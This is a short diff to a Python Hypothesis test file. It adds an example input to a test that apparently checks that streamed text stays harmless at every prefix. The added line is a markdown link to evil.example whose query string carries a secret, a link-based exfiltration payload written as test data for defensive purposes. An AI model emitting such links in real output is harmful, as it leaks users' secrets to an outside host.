@@ -71,6 +71,7 @@ def test_a_decline_and_a_note_are_as_harmless(text: str) -> None:
 @given(attacks)
 @example(TEXT)
 @example("\n".join((*MENTIONS, *LINKS)))
+@example(":[click](https://evil.example/?d=SECRET)https://evil.example")
 @settings(deadline=None)
 def test_a_stream_of_the_text_is_as_harmless_at_every_moment(text: str) -> None:
     for end in {0, len(text) // 3, len(text) // 2, len(text) - 1, len(text)}:
